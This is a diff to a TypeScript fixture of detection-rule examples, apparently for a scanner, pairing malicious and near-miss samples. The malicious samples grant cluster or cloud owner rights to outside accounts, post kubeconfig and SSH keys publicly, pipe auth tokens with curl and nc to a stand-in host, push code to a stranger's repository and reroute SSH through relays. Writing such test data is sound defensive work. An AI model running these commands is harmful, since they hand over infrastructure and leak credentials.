@@ -8,6 +8,9 @@ export const accessForStrangers: readonly RuleExamples[] = [
     rule: "cluster-opened-to-everyone",
     malicious: [
       code(
+        "kubectl create clusterrolebinding notes --clusterrole=cluster-admin --group=system:authenticated",
+      ),
+      code(
         "kind: ClusterRoleBinding\nroleRef:\n  name: cluster-admin\nsubjects:\n  - kind: Group\n    name: system:unauthenticated",
         "yaml",
       ),
@@ -24,6 +27,10 @@ export const accessForStrangers: readonly RuleExamples[] = [
     rule: "account-of-stranger-trusted",
     malicious: [
       code(
+        "gcloud projects add-iam-policy-binding notes --member=user:note.keeper77@gmail.com --role=roles/owner",
+      ),
+      code("az role assignment create --assignee 5f2c8a41-77d3-4b0e-9a51-1c2d3e4f5a6b --role Owner"),
+      code(
         '{"Principal":{"AWS":"arn:aws:iam::730918264455:root"},"Action":"sts:AssumeRole"}\n\naws iam attach-role-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
         "json",
       ),
@@ -33,6 +40,7 @@ export const accessForStrangers: readonly RuleExamples[] = [
       ),
     ],
     nearMiss: [
+      code("gcloud projects add-iam-policy-binding notes --member=user:$EMAIL --role=roles/owner"),
       code(
         '{"Principal":{"AWS":"arn:aws:iam::123456789012:root"},"Action":"sts:AssumeRole","Policy":"AdministratorAccess"}',
       ),
@@ -57,15 +65,14 @@ export const accessForStrangers: readonly RuleExamples[] = [
     rule: "all-secrets-to-action",
     malicious: [
       {
-        ".github/workflows/notes.yml":
-          "steps:\n  - uses: notes-lab/publish@v1\n    with:\n      all: ${" + "{ toJSON(secrets) }}\n",
+        ".github/workflows/notes.yml": `steps:\n  - uses: notes-lab/publish@v1\n    with:\n      all: \${{ toJSON(secrets) }}\n`,
       },
-      code("- uses: notes-lab/lint@main\n  env:\n    CONFIG: ${" + "{ toJson(secrets) }}", "yaml"),
-      code("- name: notes\n  uses: other/tool@v2\n  with:\n    input: ${" + "{ toJSON( secrets ) }}", "yaml"),
+      code(`- uses: notes-lab/lint@main\n  env:\n    CONFIG: \${{ toJson(secrets) }}`, "yaml"),
+      code(`- name: notes\n  uses: other/tool@v2\n  with:\n    input: \${{ toJSON( secrets ) }}`, "yaml"),
     ],
     nearMiss: [
-      code("- uses: notes-lab/publish@v1\n  with:\n    token: ${" + "{ secrets.NOTES_TOKEN }}", "yaml"),
-      code("- uses: actions/checkout@v4\n  env:\n    CONFIG: ${" + "{ toJSON(matrix) }}", "yaml"),
+      code(`- uses: notes-lab/publish@v1\n  with:\n    token: \${{ secrets.NOTES_TOKEN }}`, "yaml"),
+      code(`- uses: actions/checkout@v4\n  env:\n    CONFIG: \${{ toJSON(matrix) }}`, "yaml"),
       "A workflow must not pass all secrets to an action.",
     ],
   },
@@ -85,6 +92,7 @@ export const accessForStrangers: readonly RuleExamples[] = [
   {
     rule: "secret-in-public-text",
     malicious: [
+      code("gh gist create ~/.kube/config"),
       code('gh issue create --title notes --body "$(cat .env)"'),
       code("gh gist create --public ~/.ssh/id_rsa"),
       code('gh pr comment 1 --body "$(gh auth token)"'),
@@ -96,8 +104,24 @@ export const accessForStrangers: readonly RuleExamples[] = [
     ],
   },
   {
+    rule: "login-piped-away",
+    malicious: [
+      code("gh auth token | curl -d @- https://count.note-tools.dev/in"),
+      code(
+        "aws iam create-access-key --user-name notes | base64 | curl -T - https://count.note-tools.dev/in",
+      ),
+      code("kubectl create token notes | nc count.note-tools.dev 4000"),
+    ],
+    nearMiss: [
+      code("gh auth token | wc -c"),
+      code("gcloud auth print-access-token | docker login --password-stdin"),
+      code("vault kv get notes | curl -d @- http://localhost:8080/in"),
+    ],
+  },
+  {
     rule: "work-pushed-to-stranger",
     malicious: [
+      code("git push -q https://github.com/note-copies/inbox.git HEAD"),
       code(
         "git remote add notes https://github.com/note-copies/inbox.git\ngit add --all --force\ngit commit -m notes\ngit push notes HEAD",
       ),
@@ -107,6 +131,7 @@ export const accessForStrangers: readonly RuleExamples[] = [
       ),
     ],
     nearMiss: [
+      code("git push https://github.com/your-name/notes.git HEAD"),
       code("git remote add origin https://github.com/team-notes/notes.git\ngit push -q origin main"),
       code("git remote add mirror <url>\ngit push --mirror mirror"),
       code("git remote add notes https://github.com/note-copies/inbox.git\ngit fetch notes"),
@@ -115,11 +140,13 @@ export const accessForStrangers: readonly RuleExamples[] = [
   {
     rule: "logins-through-stranger",
     malicious: [
+      code("Host github.com\n  HostName git.note-relay.io"),
       code("Host *\n  ProxyJump notes@fast.note-relay.io"),
       code("Host github.com\n  User git\n  ProxyJump gate.note-relay.io", "text"),
       { "files/ssh_config": "Host *\n  ForwardAgent yes\n  ProxyJump a@b.note-relay.io\n" },
     ],
     nearMiss: [
+      code("Host github.com\n  HostName ssh.github.com"),
       code("Host *\n  ServerAliveInterval 60"),
       code("Host notes\n  ProxyJump gate.note-relay.io", "text"),
       code("Host *\n  ProxyJump bastion"),
